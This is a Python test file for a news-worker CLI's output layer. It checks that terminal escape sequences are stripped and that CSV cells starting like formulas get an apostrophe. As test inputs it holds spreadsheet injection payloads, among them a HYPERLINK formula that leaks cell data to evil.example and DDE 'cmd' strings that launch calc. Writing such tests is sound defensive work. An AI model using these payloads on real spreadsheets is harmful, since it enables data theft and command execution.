"""Printing: foreign text cannot drive the terminal, and a spreadsheet computes no cell of the CSV."""

import csv
import io
import json
from datetime import UTC, datetime, timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.cli.terminal import wiredesk
from tests.store.rows import stored_article
from worker.cli.terminal.output import (
    ago,
    clean,
    clean_lines,
    print_csv,
    print_fields,
    print_json,
    print_table,
)
from worker.monitor.terminal import CONTROL
from worker.store import Store

EVIL = "Storm\U000e0041\x1b[2J\x1b]0;owned\x07 \u202ereversed\r\nnext\x9b31m"


@given(st.text())
def test_cleaned_text_contains_no_control_character(text: str) -> None:
    assert not CONTROL.search(clean(text))
    assert not CONTROL.search(clean_lines(text).replace("\n", ""))


def test_a_title_with_escape_sequences_is_printed_without_them(capsys: pytest.CaptureFixture[str]) -> None:
    print_table(("title",), [(EVIL,)], empty="none")
    print_fields([("title", EVIL), ("summary", None)])
    shown = capsys.readouterr().out
    assert not CONTROL.search(shown.replace("\n", ""))
    assert "owned" in shown
    assert "summary" not in shown


def test_rich_markup_in_a_title_is_printed_literally(capsys: pytest.CaptureFixture[str]) -> None:
    print_table(("title",), [("[bold]not[/bold] [link=https://example.org]bold[/link]",)], empty="none")
    assert "[bold]not[/bold]" in capsys.readouterr().out


def test_json_output_escapes_control_characters_and_keeps_all_others(
    capsys: pytest.CaptureFixture[str],
) -> None:
    at = datetime(2026, 5, 4, 12, tzinfo=UTC)
    print_json({"title": EVIL, "at": at, "script": "العربية"})
    shown = capsys.readouterr().out
    assert not CONTROL.search(shown.replace("\n", ""))
    assert json.loads(shown) == {"title": EVIL, "at": "2026-05-04T12:00:00Z", "script": "العربية"}


def test_an_empty_table_prints_its_message(capsys: pytest.CaptureFixture[str]) -> None:
    print_table(("title",), [], empty="no articles")
    assert capsys.readouterr().out == "no articles\n"


@pytest.mark.parametrize(
    "seconds, words",
    [(5, "5 s ago"), (90, "2 min ago"), (7200, "2 h ago"), (200_000, "2 d ago"), (-40, "in 40 s")],
)
def test_a_time_is_shown_as_its_distance_from_now_in_the_largest_unit(seconds: float, words: str) -> None:
    now = datetime(2026, 5, 4, 12, tzinfo=UTC)
    assert ago(now - timedelta(seconds=seconds), now) == words


def test_a_missing_time_is_shown_as_never() -> None:
    assert ago(None) == "never"


def sheet(*rows: tuple[object, ...]) -> list[list[str]]:
    out = io.StringIO()
    print_csv(("title", "count"), rows, out)
    return list(csv.reader(io.StringIO(out.getvalue())))


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("https://evil.example?"&A1)',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\x00=1+1",
        "\ufeff=1+1",
        "＝1+1",
        " =1+1",
    ],
)
def test_a_cell_that_begins_like_a_formula_gets_an_apostrophe(formula: str) -> None:
    (_, (cell, _)) = sheet((formula, 1))
    assert cell.startswith("'")
    assert not set(cell) & set("\t\r\n\x00\ufeff")


def test_quotes_and_line_breaks_in_a_title_stay_in_its_cell() -> None:
    title = 'a","=1+1\r\n"=2+2",b;c'
    assert sheet((title, 1)) == [["title", "count"], ['a","=1+1 "=2+2",b;c', "1"]]


def test_numbers_instants_and_ordinary_texts_are_written_unchanged() -> None:
    at = datetime(2026, 5, 4, 12, tzinfo=UTC)
    assert sheet((at, -3), (None, 2.5), ("العربية – 5 %", 0))[1:] == [
        ["2026-05-04T12:00:00+00:00", "-3"],
        ["", "2.5"],
        ["العربية – 5 %", "0"],
    ]


def test_articles_are_listed_as_csv(store: Store) -> None:
    with store.begin() as db:
        stored_article(db, title="=1+1", language="en")
    (head, row) = csv.reader(io.StringIO(wiredesk("articles", "list", "--csv").out))
    assert head == ["id", "stored_at", "published", "publisher", "language", "word_count", "title", "url"]
    assert row[6] == "'=1+1"
